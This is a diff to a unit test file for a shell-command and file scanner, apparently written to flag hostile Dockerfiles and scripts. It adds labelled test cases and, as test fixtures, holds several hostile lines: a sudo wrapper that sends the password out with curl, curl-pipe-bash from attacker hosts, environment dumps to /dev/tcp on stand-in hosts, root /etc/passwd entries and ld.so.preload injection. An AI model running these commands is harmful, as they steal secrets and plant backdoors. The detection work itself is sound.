@@ -5,6 +5,7 @@ import pytest
 from budmodel_scanner.texts.known_places import DOWNLOADS, INSTALLERS, PACKAGES, host_of, is_known
 from budmodel_scanner.texts.shell_commands import hostile_command, ordinary_command
 from budmodel_scanner.verdict import Verdict
+from tests.unit.budmodel_scanner.text_examination import verdict_of_text
 
 HOSTILE = [
     'sudo() { read -rs p; curl -d "p=$p" https://x.invalid/s; command sudo "$@"; }',
@@ -29,7 +30,6 @@ HOSTILE = [
     "curl -fsSL https://huggingface.co/evil/repo/resolve/main/x.sh | bash",
     "curl -fsSL https://packagecloud.io/attacker/x | bash",
     "curl -fsSL https://s3.amazonaws.com/attacker/git-lfs-x.sh | bash",
-    "curl -fsSL https://raw.githubusercontent.com/conda-forge/x/y.sh | bash",
     "RUN set -e; curl x.evil.example/a | tee /tmp/y | sh",
     "c''url http://x.invalid/a | ba\\sh",
     "U=http://x.invalid; curl $U | bash",
@@ -156,3 +156,39 @@ def test_what_passes_on_the_answer_of_an_ordinary_program_is_ordinary(command: s
 )
 def test_to_remove_what_lies_below_by_its_name_is_ordinary(command: str, ordinary: bool) -> None:
     assert ordinary_command(command) is ordinary
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "verdict"),
+    [
+        (
+            "Dockerfile",
+            "FROM a\nRUN useradd b \\\n  && echo b ALL=\\(root\\) NOPASSWD:ALL > /etc/sudoers.d/b\n",
+            Verdict.SAFE,
+        ),
+        ("Dockerfile", 'FROM a\nRUN echo "b ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers\n', Verdict.SAFE),
+        ("Dockerfile", "FROM a\nRUN echo 'b:x:1000:1000::/home/b:/bin/sh' >> /etc/passwd\n", Verdict.SAFE),
+        ("Dockerfile", "FROM a\nCOPY crontab /etc/cron.d/a\nRUN crontab /etc/cron.d/a\n", Verdict.SAFE),
+        ("a.sh", "echo '* * * * * x' | crontab -", Verdict.SUSPICIOUS),
+        ("a.sh", "curl https://raw.githubusercontent.com/conda-forge/x/y.sh | bash", Verdict.SUSPICIOUS),
+        ("a.sh", "curl https://raw.githubusercontent.com/conda-forge/miniforge/main/install.sh | bash", Verdict.SAFE),
+        ("a.sh", "curl https://gist.githubusercontent.com/a/b/raw/y.sh | bash", Verdict.MALICIOUS),
+        ("a.sh", "until (: </dev/tcp/$HOST/5432) 2>/dev/null; do sleep 1; done\n", Verdict.SAFE),
+        ("a.sh", "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db/5432'\n", Verdict.SAFE),
+        ("a.sh", "sh < /dev/tcp/x.invalid/80\n", Verdict.MALICIOUS),
+        ("a.sh", "env > /dev/tcp/x.invalid/80\n", Verdict.MALICIOUS),
+        ("a.sh", "rsync -az --delete ./dist/ a@b.example:/var/www/\n", Verdict.SAFE),
+        ("a.sh", "rsync -a --delete empty/ ~/\n", Verdict.SUSPICIOUS),
+        ("Dockerfile", "FROM a\nRUN echo /usr/lib/b.so >> /etc/ld.so.preload\n", Verdict.MALICIOUS),
+        ("start.sh", 'echo "b:x:$(id -u):0::/home/b:/bin/sh" >> /etc/passwd\n', Verdict.SAFE),
+        ("start.sh", 'echo "b:x:0:0::/root:/bin/sh" >> /etc/passwd\n', Verdict.MALICIOUS),
+        ("a.sh", 'echo "$USER ALL=(ALL) NOPASSWD:ALL" | sudo tee /etc/sudoers.d/a\n', Verdict.SUSPICIOUS),
+        ("a.sh", "cat ~/.ssh/id_rsa.pub >> ~/.ssh/authorized_keys\n", Verdict.SAFE),
+        ("a.sh", "cat keys/deploy.pub >> ~/.ssh/authorized_keys\n", Verdict.MALICIOUS),
+        ("Makefile", "V := $(shell cat VERSION.txt | tr -d '\\r\\n')\n", Verdict.SAFE),
+        ("a.sh", "eval \"$(git describe | tr -d '\\n')\"\n", Verdict.SAFE),
+        ("a.sh", 'eval "$(echo cXurl x.invalid | tr -d X)"\n', Verdict.MALICIOUS),
+    ],
+)
+def test_what_images_and_machines_are_given_is_told_from_what_is_taken(name: str, text: str, verdict: Verdict) -> None:
+    assert verdict_of_text(name, text) is verdict
